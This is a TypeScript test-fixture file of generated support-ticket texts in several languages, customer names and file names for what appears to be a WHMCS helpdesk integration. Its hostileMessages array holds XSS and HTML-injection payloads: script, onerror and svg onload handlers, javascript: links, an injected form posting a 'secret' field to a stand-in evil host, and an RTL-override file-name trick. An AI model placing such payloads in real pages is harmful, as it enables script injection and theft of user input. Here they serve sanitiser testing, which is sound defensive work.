/** Texts of generated messages by language. `{n}` becomes a number. */
export const phrases: Record<string, { subjects: string[]; client: string[]; staff: string[] }> = {
  en: {
    subjects: [
      'Mail from our domain is rejected',
      'Invoice {n} was charged twice',
      'Site slow since the migration',
      'Cannot renew domain',
      'SSL certificate not trusted on port {n}',
    ],
    client: [
      'Hello,\r\n\r\nsince this morning every mail we send comes back with **550 5.7.1**. Nothing was changed on our side.\r\n\r\nCan you look at this before noon?',
      'It is still happening. I counted {n} bounces in the last hour:\r\n\r\n- to customers at large providers\r\n- to our own accountant\r\n- even to *myself*',
      'Thanks! I will try that this evening and report back.',
      'I do not understand step 2. Which of the two servers is meant, the one in Frankfurt or the new one?',
    ],
    staff: [
      'Hello,\r\n\r\nthank you for writing. The address of your server was listed by mistake; I have asked for its removal. Please run:\r\n\r\n```\ndig +short TXT example.com\nv=spf1 include:_spf.example.com -all\n```\r\n\r\nand tell me what you see.',
      'I see the same here. The record has **two** SPF entries; only one is allowed. I have merged them, it takes up to {n} minutes.',
      'Done. Is there anything else I can do for you?',
    ],
  },
  de: {
    subjects: [
      'Rechnung {n}: falsche Umsatzsteuer',
      'Webseite nach Umzug nicht erreichbar',
      'Passwort für Postfach zurücksetzen',
    ],
    client: [
      'Guten Tag,\r\n\r\nseit dem Umzug meldet die Seite „Fehler {n}“. Könnten Sie bitte prüfen, ob die Weiterleitung stimmt?\r\n\r\nMit freundlichen Grüßen',
      'Jetzt geht es – vielen Dank für die schnelle Hilfe!',
    ],
    staff: [
      'Guten Tag,\r\n\r\nder Eintrag für `www` fehlte. Ich habe ihn ergänzt; bitte leeren Sie einmal den Zwischenspeicher.',
      'Gern geschehen. Ich schließe das Ticket damit.',
    ],
  },
  es: {
    subjects: ['No puedo acceder al panel', 'Solicitud de reembolso n.º {n}'],
    client: [
      'Buenos días:\r\n\r\nel panel me dice «sesión caducada» cada vez que entro. ¿Qué hago?',
      '¡Perfecto, muchas gracias!',
    ],
    staff: ['Hola:\r\n\r\nhemos reiniciado su sesión. Pruebe de nuevo, por favor.'],
  },
  ja: {
    subjects: ['メールが届きません', '請求書 {n} について'],
    client: [
      'お世話になっております。\r\n\r\n昨日からメールが届かなくなりました。ご確認をお願いいたします。',
      'ありがとうございます。確認できました。',
    ],
    staff: ['お問い合わせありがとうございます。\r\n\r\n設定を修正いたしました。{n}分ほどお待ちください。'],
  },
  zh: {
    subjects: ['网站无法访问', '域名续费问题 {n}'],
    client: ['您好，\r\n\r\n我们的网站从今天早上开始无法访问，请尽快处理。', '问题已经解决，谢谢！'],
    staff: ['您好，\r\n\r\n我们已经重启了服务器，请再试一次。'],
  },
  ko: {
    subjects: ['서버 접속이 되지 않습니다'],
    client: ['안녕하세요,\r\n\r\n어제부터 서버에 접속할 수 없습니다. 확인 부탁드립니다.'],
    staff: ['안녕하세요, 방화벽 설정을 수정했습니다. 다시 시도해 주세요. 🙂'],
  },
};

/** Messages from hostile or unlucky clients; entity-encoded, as WHMCS stores them. */
export const hostileMessages = [
  '&lt;script&gt;window.__attacked = &quot;script&quot;&lt;/script&gt; and &lt;img src=x onerror=&quot;window.__attacked=1&quot;&gt; in my page source',
  'Click [here](javascript:window.__attacked=1) or [there](data:text/html;base64,PHNjcmlwdD4=) or [even here](vbscript:x)',
  '![tracking](https://tracker.example.net/pixel.gif) &lt;iframe src=&quot;https://evil.example.net/&quot;&gt;&lt;/iframe&gt;',
  'I typed &amp;amp;lt;b&amp;amp;gt; and the page showed &amp;lt;b&amp;gt; &amp;mdash; which is it? &lt;svg/onload=window.__attacked=1&gt;',
  '&lt;style&gt;body{display:none}&lt;/style&gt;&lt;base href=&quot;https://evil.example.net/&quot;&gt;&lt;form action=&quot;https://evil.example.net/&quot;&gt;&lt;input name=secret&gt;&lt;/form&gt;',
  'Right-to-left: \u202Egnp.exe and a null \u0000 and a lone surrogate \\uD800 and zero\u200Bwidth',
];

export const people = [
  'Cynthia Reilly',
  'Jürgen Großmann',
  'María José Ñúñez',
  '山田 太郎',
  '王小明',
  '김민수',
  'Siobhán O&#039;Brien',
  'Ahmed El-Sayed',
];
export const staff = ['Demo Admin', 'Priya Raman', 'Tom Okafor'];
export const fileNames = [
  'screenshot.png',
  'bounce, original.eml',
  'Rechnung 2024.pdf',
  'スクリーンショット.png',
  'access.log',
];
